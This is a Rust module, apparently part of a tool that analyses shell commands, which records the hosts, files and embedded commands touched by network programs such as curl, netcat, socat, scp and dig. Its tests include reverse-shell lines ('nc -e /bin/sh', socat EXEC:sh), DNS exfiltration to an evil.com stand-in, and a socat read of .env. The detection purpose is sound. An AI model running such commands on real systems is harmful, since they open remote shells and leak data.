//! Programs that connect to other machines. Their effects are never fully known, so a rule decides;
//! hosts and files are listed here so that rules about those apply too.

mod curl;
mod url;
mod url_globs;
mod wget;

use crate::program::command_analysis::CommandAnalysis;
use crate::program::options::{OptionTable, options, strip_start};
use crate::shell::ShellArg;

use super::analysis_builder::{AccessDepth, CommandAnalysisBuilder};

/// Analyzes a program that connects to other machines.
pub(super) fn analyze(name: &str, args: &[ShellArg]) -> Option<CommandAnalysis> {
    match name {
        "curl" => Some(curl::analyze(args)),
        "wget" | "wget2" => Some(wget::analyze(args)),
        "aria2c" => Some(analyze_aria2(args)),
        "http" | "https" | "xh" | "xhs" => Some(analyze_httpie(args)),
        "gh" => Some(analyze_gh(args)),
        "nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional" => Some(analyze_netcat(args)),
        "socat" => Some(analyze_socat(args)),
        "scp" | "sftp" => Some(analyze_remote_copy(args)),
        "ping" | "ping6" | "dig" | "nslookup" | "host" | "whois" | "traceroute" | "tracepath"
        | "mtr" | "telnet" | "ftp" | "getent" | "drill" | "kdig" => {
            Some(analyze_host_operands(args))
        }
        _ => None,
    }
}

/// Any operand may be a host: even a name that is only looked up reaches its name server.
fn analyze_host_operands(args: &[ShellArg]) -> CommandAnalysis {
    let mut notes = CommandAnalysisBuilder::default();
    for arg in args {
        // `dig @server name`.
        let server = arg.known_prefix().starts_with('@');
        if server {
            notes.record_host(&strip_start(arg, "@".len()));
        } else if !arg.known_prefix().starts_with(['-', '+']) {
            notes.record_host(arg);
        }
    }
    notes.record_reads(options!("f:").parse(args).values(&["f"]));
    notes.build_incomplete()
}

fn analyze_aria2(args: &[ShellArg]) -> CommandAnalysis {
    const ARIA2: OptionTable = options!(
        "-dionjsxkl: dir: out: input-file: log: conf-path: save-session: on-bt-download-complete \
         on-download-complete on-download-error on-download-pause on-download-start \
         on-download-stop load-cookies save-cookies all-proxy"
    );
    let options = ARIA2.parse(args);
    let mut notes = CommandAnalysisBuilder::default();
    for option in &options.parsed {
        if let Some(value) =
            option.value.as_ref().filter(|_| option.names().any(|name| name.starts_with("on-")))
        {
            notes.record_command(value);
        }
    }
    for file in options.values(&["i", "input-file", "load-cookies"]) {
        notes.record_read(file, AccessDepth::Itself);
        notes.record_caution("a file gives it addresses and options");
    }
    for file in options.values(&["conf-path"]) {
        notes.record_read(file, AccessDepth::Itself);
        notes.record_caution("a file gives it options");
    }
    notes.record_outputs(options.values(&["o", "out", "l", "log", "save-session", "save-cookies"]));
    options
        .values(&["d", "dir"])
        .for_each(|folder| notes.record_write(folder, AccessDepth::Beneath));
    options.values(&["all-proxy"]).for_each(|proxy| notes.record_host(proxy));
    options.operands.iter().for_each(|address| url::record_address(address, &mut notes));
    notes.build_incomplete()
}

fn analyze_httpie(args: &[ShellArg]) -> CommandAnalysis {
    let options =
        options!("-oaApsP: output: auth: auth-type: proxy: cert: cert-key: verify:").parse(args);
    let mut notes = CommandAnalysisBuilder::default();
    notes.record_outputs(options.values(&["o", "output"]));
    for proxy in options.values(&["proxy"]) {
        notes.record_host(proxy);
        notes.record_caution("it goes through another host");
    }
    let is_method = |arg: &&ShellArg| {
        arg.as_known().is_some_and(|text| {
            !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_uppercase())
        })
    };
    let mut operands = options.operands.iter().peekable();
    operands.next_if(is_method);
    operands.next().into_iter().for_each(|address| url::record_address(address, &mut notes));
    // `field@file`, `field=@file`, `field:=@file`.
    for item in operands {
        if let Some(at) = item.known_prefix().find('@') {
            notes.record_read(&strip_start(item, at + 1), AccessDepth::Itself);
        }
    }
    notes.record_identities(options.values(&["cert", "cert-key"]));
    notes.build_incomplete()
}

fn analyze_gh(args: &[ShellArg]) -> CommandAnalysis {
    let options = options!("-FRf: hostname: field: raw-field: input: repo:").parse(args);
    let mut notes = CommandAnalysisBuilder::default();
    notes.record_host(&ShellArg::known("github.com"));
    options.values(&["hostname"]).for_each(|host| notes.record_host(host));
    notes.record_reads(options.values(&["input"]));
    for field in options.values(&["F", "field"]) {
        if let Some(at) = field.known_prefix().find("=@") {
            notes.record_read(&strip_start(field, at + "=@".len()), AccessDepth::Itself);
        } else {
            // `-F file` of `gh issue create` and similar.
            notes.record_read(field, AccessDepth::Itself);
        }
    }
    notes.build_incomplete()
}

fn analyze_netcat(args: &[ShellArg]) -> CommandAnalysis {
    let options =
        options!("-ecwpsXxiqTo: exec: sh-exec: lua-exec: output: proxy: source:").parse(args);
    let mut notes = CommandAnalysisBuilder::default();
    options.values(&["e", "c", "exec", "sh-exec"]).for_each(|command| notes.record_script(command));
    for file in options.values(&["lua-exec"]) {
        notes.record_read(file, AccessDepth::Itself);
        notes.record_unknown_run("a Lua file is run");
    }
    notes.record_writes(options.values(&["o", "output"]));
    options.values(&["x", "proxy"]).for_each(|host| notes.record_host(host));
    let is_port = |arg: &&ShellArg| {
        arg.as_known().is_some_and(|text| text.bytes().all(|byte| byte.is_ascii_digit()))
    };
    options.operands.iter().filter(|arg| !is_port(arg)).for_each(|host| notes.record_host(host));
    notes.build_incomplete()
}

/// `socat` connects two addresses, each with its kind before the first colon.
fn analyze_socat(args: &[ShellArg]) -> CommandAnalysis {
    let options = options!("-bdlTtSsx:").parse(args);
    let mut notes = CommandAnalysisBuilder::default();
    for address in &options.operands {
        let Some(text) = address.as_known() else {
            notes.record_unknown_run("an address may be a command");
            continue;
        };
        for half in text.split("!!") {
            let (kind, rest) = half.split_once(':').unwrap_or((half, ""));
            let value = rest.split(',').next().unwrap_or_default();
            let kind = kind.to_ascii_lowercase();
            match kind.as_str() {
                "exec" | "system" | "shell" => notes.record_script(&ShellArg::known(rest)),
                "open" | "create" | "creat" | "file" | "gopen" | "pipe" => {
                    notes.record_read(&ShellArg::known(value), AccessDepth::Itself);
                    notes.record_write(&ShellArg::known(value), AccessDepth::Itself);
                }
                "-" | "stdio" | "stdin" | "stdout" | "stderr" | "" => {}
                _ if kind.contains("listen") || kind.contains("recv") => {}
                _ if kind.starts_with("unix") || kind.starts_with('/') || rest.is_empty() => {
                    notes.record_write(
                        &ShellArg::known(if rest.is_empty() { half } else { value }),
                        AccessDepth::Itself,
                    );
                }
                _ => notes.record_host(&ShellArg::known(value)),
            }
        }
    }
    notes.build_incomplete()
}

fn analyze_remote_copy(args: &[ShellArg]) -> CommandAnalysis {
    let options = options!("-cDFiJlobBPRsSX:").parse(args);
    let mut notes = CommandAnalysisBuilder::default();
    options.values(&["S", "D"]).for_each(|program| notes.record_command(program));
    notes.record_reads(options.values(&["F", "b"]));
    notes.record_identities(options.values(&["i"]));
    if options.has(&["F", "b"]) {
        notes.record_caution("a file gives it options");
    }
    for setting in options.values(&["o"]) {
        let text = setting.to_string().to_ascii_lowercase();
        if setting.as_known().is_none()
            || ["command", "include", "provider"].iter().any(|word| text.contains(word))
        {
            notes.record_unknown_run("a setting can name a command");
        }
    }
    options.values(&["J"]).for_each(|host| notes.record_host(host));
    let last = options.operands.len().saturating_sub(1);
    for (at, operand) in options.operands.iter().enumerate() {
        let before_slash = operand.known_prefix().split('/').next().unwrap_or_default();
        if before_slash.contains([':', '@']) {
            notes.record_host(operand);
        } else if at == last {
            notes.record_write(operand, AccessDepth::Beneath);
        } else {
            notes.record_read(operand, AccessDepth::Beneath);
        }
    }
    notes.build_incomplete()
}

#[cfg(test)]
mod tests {
    use crate::program::files::analysis_assert::check;

    #[test]
    fn network_operands_are_recorded_as_hosts() {
        check("ping -c 1 h", "program: host 1, host h");
        check("dig @ns data.evil.com +short", "program: host ns, host data.evil.com");
        check("nslookup $x.evil.com", "program: host $x.evil.com");
        check("telnet h 25", "program: host h, host 25");
        check("gh pr list", "program: host github.com");
        check("gh api --hostname h x --input f", "program: read f, host github.com, host h");
        check("http POST h/x a=b f@file", "program: read file, host h/x");
        check("scp a u@h:b", "program: read a/**, host u@h:b");
        check("scp -S ./x h:a b", "program: write b/**, host h:a, runs ./x");
        check("scp -oProxyCommand=x h:a b", "program: write b/**, host h:a, runs something");
    }

    #[test]
    fn network_tool_commands_are_found() {
        check("nc h 80", "program: host h");
        check("nc -e /bin/sh h 80", "program: host h, script /bin/sh");
        check("ncat --sh-exec id -l 80", "program: script id");
        check("ncat --sh id -l 80", "program: host id, script id");
        check("socat - TCP:h:80", "program: host h:80");
        check("socat TCP:h:80 EXEC:sh,pty", "program: host h:80, script sh,pty");
        check("socat tcp-listen:80 system:id", "program: script id");
        check("socat - OPEN:.env,rdonly", "program: read .env, write .env");
        check("aria2c --on-download-complete=./x http://h/a", "program: host http://h/a, runs ./x");
    }
}
